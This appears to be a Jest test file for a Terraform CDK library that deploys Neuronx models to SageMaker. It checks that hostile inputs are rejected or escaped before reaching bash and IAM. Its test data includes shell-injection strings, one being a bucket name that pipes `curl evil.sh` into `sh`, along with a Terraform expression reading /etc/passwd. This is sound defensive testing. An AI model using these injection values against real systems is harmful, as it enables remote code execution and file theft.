// The Terraform tier, for what keeps hostile values out of the shell and IAM, through the real
// terraform: the rules mean the same in Terraform's RE2 as in JavaScript; references reach the user
// data escaped by Terraform's own expression semantics, so bash runs none of them; and a secret passed
// where its ARN belongs fails the plan without being printed or written to state.
import { execFileSync, spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { App, TerraformOutput, TerraformStack, TerraformVariable } from "cdktf";
import { AwsProvider } from "@cdktf/provider-aws/lib/provider";
import { NullProvider } from "@cdktf/provider-null/lib/provider";
import { Model } from "../../lib/model";
import { TransformersNeuronxSageMakerInferenceModelData as ModelData } from "../../lib/model-data";
import { NeuronxCompile } from "../../lib/neuronx-compile";
import { RULES, RuleName, hclString, ruleCondition, ruleViolation } from "../../lib/patterns";
import { TransformersNeuronxSageMakerRealtimeInferenceEndpoint as Endpoint } from "../../lib/realtime-endpoint";
import { renderCompileUserData } from "../../lib/user-data";
import { EMULATED_SERVICES } from "../../stacks/provider";
import { Moto, startMoto } from "../helpers/moto";
import { terraform } from "../helpers/terraform";
import { HOSTILE_CASES } from "../hostile/cases";

const AMI = "ami-785db401"; // one of moto's images
const work = () => fs.mkdtempSync(path.join(os.tmpdir(), "neuronx-security-"));

/** Strings every rule is tried with, besides its example: each class of hostile input. */
const SAMPLES = [
  "",
  " ",
  "*",
  "?",
  "a*b",
  "..",
  "../x/",
  "a//b",
  "x\n",
  "x\u0000y",
  "mоdels",
  '${file("/etc/passwd")}',
  "%{ if true }x%{ endif }",
  "a'b",
  "$(id)",
  "`id`",
  "a;b|c&d>e",
  "aws:x",
  "AWS:x",
  "192.168.5.4",
  "xn--models",
  "models-s3alias",
  "my.-models",
  "x".repeat(300),
  "main/",
  "v1.lock",
  "org/name.git",
  "org--x/name",
  "s3://xn--c/x",
  "s3://c/../x",
  "arn:aws:s3:::*",
  "arn:aws:kms:us-east-1:123456789012:key/*",
  "Größe",
  "a b",
];

describe("the rules in Terraform's RE2", () => {
  const rules = Object.keys(RULES) as RuleName[];
  const cases = rules.flatMap((rule) => [RULES[rule].example, ...SAMPLES].map((value) => ({ rule, value })));
  let results: Record<string, boolean>;

  beforeAll(() => {
    const dir = work();
    const entries = cases.map((c, i) => `    "${i}" = ${ruleCondition(RULES[c.rule], hclString(c.value))}`);
    fs.writeFileSync(
      path.join(dir, "main.tf"),
      `locals {\n  results = {\n${entries.join("\n")}\n  }\n}\n\noutput "results" {\n  value = local.results\n}\n`,
    );
    expect(terraform(dir, ["init", "-input=false", "-no-color"]).code).toBe(0);
    const apply = terraform(dir, ["apply", "-auto-approve", "-input=false", "-no-color"]);
    if (apply.code !== 0) throw new Error(apply.out);
    results = JSON.parse(terraform(dir, ["output", "-json", "results"]).stdout);
  });

  test("agree with the constructs on every example and every hostile sample", () => {
    const disagreements = cases
      .map((c, i) => ({ ...c, terraform: results[String(i)], javascript: ruleViolation(RULES[c.rule], c.value) === undefined }))
      .filter((c) => c.terraform !== c.javascript);
    expect(disagreements).toEqual([]);
    expect(cases.filter((_c, i) => results[String(i)]).length).toBeGreaterThanOrEqual(rules.length);
  });
});

describe("references in the user data, resolved by terraform and run by bash", () => {
  const dir = work();
  const canary = path.join(dir, "canary");
  const HOSTILE = [
    `x'; touch ${canary}; echo '`,
    `$(touch ${canary})`,
    `\`touch ${canary}\``,
    `a\ntouch ${canary}\n`,
    `a; touch ${canary} && b | c > d`,
    "${HOME} %{ if true }x%{ endif } $${y}",
    "\\'\\\\ \\n '\\''",
  ];

  beforeAll(() => {
    const app = new App({ outdir: dir });
    const stack = new TerraformStack(app, "userdata");
    const single = new TerraformVariable(stack, "single", { type: "string" }).stringValue;
    const region = new TerraformVariable(stack, "region", { type: "string" }).stringValue;
    const { script } = renderCompileUserData({
      constructPath: "test/Compile",
      deadlineMinutes: 60,
      environment: { NEURONX_SINGLE: single, NEURONX_MIXED: `123456789012.dkr.ecr.${region}.amazonaws.com/n:1` },
    });
    new TerraformOutput(stack, "user_data", { value: script });
    app.synth();
    expect(terraform(path.join(dir, "stacks", "userdata"), ["init", "-input=false", "-no-color"]).code).toBe(0);
  });

  test.each(HOSTILE)("%j reaches the instance's environment as data, and runs nothing", (value) => {
    const stackDir = path.join(dir, "stacks", "userdata");
    const apply = terraform(stackDir, [
      "apply",
      "-auto-approve",
      "-input=false",
      "-no-color",
      "-var",
      `single=${value}`,
      "-var",
      `region=${value}`,
    ]);
    if (apply.code !== 0) throw new Error(apply.out);
    const script = terraform(stackDir, ["output", "-raw", "user_data"]).stdout;
    const header = script.slice(0, script.indexOf("\n\n"));
    const dump = path.join(dir, "values");
    fs.rmSync(dump, { force: true });
    fs.writeFileSync(path.join(dir, "header.sh"), `${header}\nprintf '%s\\0' "$NEURONX_SINGLE" "$NEURONX_MIXED" > ${dump}\n`);
    execFileSync("/bin/bash", [path.join(dir, "header.sh")], { cwd: dir, env: { PATH: "/usr/bin:/bin" } });
    expect(fs.existsSync(canary)).toBe(false);
    expect(fs.readFileSync(dump, "utf8").split("\0").slice(0, 2)).toEqual([value, `123456789012.dkr.ecr.${value}.amazonaws.com/n:1`]);
  });
});

describe("references checked at plan time, against the AWS emulator", () => {
  let moto: Moto;
  let compileDir: string;
  let endpointDir: string;
  const TOKEN = "hf_pastedTheTokenNotItsArn0123456789";

  const provider = (stack: TerraformStack) => {
    new AwsProvider(stack, "aws", {
      region: "us-east-1",
      endpoints: [Object.fromEntries(EMULATED_SERVICES.map((s) => [s, moto.url]))],
      s3UsePathStyle: true,
      skipCredentialsValidation: true,
      skipMetadataApiCheck: "true",
      skipRequestingAccountId: true,
    });
    new NullProvider(stack, "null");
  };

  beforeAll(async () => {
    moto = await startMoto();
    const app = new App({ outdir: work() });
    const compile = new TerraformStack(app, "compile");
    provider(compile);
    new NeuronxCompile(compile, "Compile", {
      model: Model.fromHuggingFace("TinyLlama/TinyLlama-1.1B-Chat-v1.0"),
      amiId: AMI,
      bucket: new TerraformVariable(compile, "bucket", { type: "string" }).stringValue,
      huggingFaceTokenSecretArn: new TerraformVariable(compile, "secret_arn", { type: "string" }).stringValue,
    });
    const endpoint = new TerraformStack(app, "endpoint");
    provider(endpoint);
    new Endpoint(endpoint, "Inference", {
      modelData: ModelData.fromS3({
        bucket: "shared-models",
        prefix: new TerraformVariable(endpoint, "prefix", { type: "string" }).stringValue,
        model: Model.fromHuggingFace("TinyLlama/TinyLlama-1.1B-Chat-v1.0"),
        compileOptions: { tpDegree: 2 },
      }),
      endpointName: "security-test",
    });
    app.synth();
    compileDir = path.join(app.outdir, "stacks", "compile");
    endpointDir = path.join(app.outdir, "stacks", "endpoint");
    for (const d of [compileDir, endpointDir]) expect(terraform(d, ["init", "-input=false", "-no-color"], moto.env).code).toBe(0);
  });

  afterAll(async () => moto?.stop());

  const plan = (dir: string, vars: Record<string, string>) =>
    terraform(
      dir,
      ["plan", "-input=false", "-no-color", "-lock=false", ...Object.entries(vars).flatMap(([k, v]) => ["-var", `${k}=${v}`])],
      moto.env,
    );

  test("valid references plan", () => {
    const ok = plan(compileDir, {
      bucket: "my-models",
      secret_arn: "arn:aws:secretsmanager:us-east-1:123456789012:secret:hf-token-AbCdEf",
    });
    expect([ok.code, ok.out]).toEqual([0, expect.stringContaining("Plan:")]);
    const endpoint = plan(endpointDir, { prefix: "llama/8b/" });
    expect([endpoint.code, endpoint.out]).toEqual([0, expect.stringContaining("Plan:")]);
  });

  test("a token passed where its secret's ARN belongs fails the plan, is never printed, and writes no state", () => {
    const failed = plan(compileDir, { bucket: "my-models", secret_arn: TOKEN });
    expect(failed.code).not.toBe(0);
    expect(failed.out).toContain("The value of huggingFaceTokenSecretArn must be a Secrets Manager secret ARN");
    expect(failed.out).not.toContain(TOKEN);
    expect(fs.existsSync(path.join(compileDir, "terraform.tfstate"))).toBe(false);
  });

  test.each([
    ["bucket", { bucket: "models'; curl evil.sh | sh; '", secret_arn: "arn:aws:secretsmanager:us-east-1:123456789012:secret:x" }, compile],
    ["bucket", { bucket: "xn--models", secret_arn: "arn:aws:secretsmanager:us-east-1:123456789012:secret:x" }, compile],
    ["prefix", { prefix: "*/" }, endpoint],
    ["prefix", { prefix: "../other-team/" }, endpoint],
    ["prefix", { prefix: "${aws:username}/" }, endpoint],
  ])("a hostile %s from a variable fails the plan, naming the prop", (prop, vars, which) => {
    const failed = plan(which(), vars as Record<string, string>);
    expect(failed.code).not.toBe(0);
    expect(failed.out).toContain(`The value of ${prop} must be`);
  });

  function compile() {
    return compileDir;
  }
  function endpoint() {
    return endpointDir;
  }
});

test("the hostile table's plan-time cases are the references it holds", () => {
  expect(HOSTILE_CASES.filter((c) => c.refusedAt === "plan").every((c) => c.kind === "reference")).toBe(true);
});

test("the CLI is a real terraform", () => {
  expect(spawnSync("terraform", ["version"], { encoding: "utf8" }).stdout).toMatch(/^Terraform v1\.\d+\.\d+/);
});
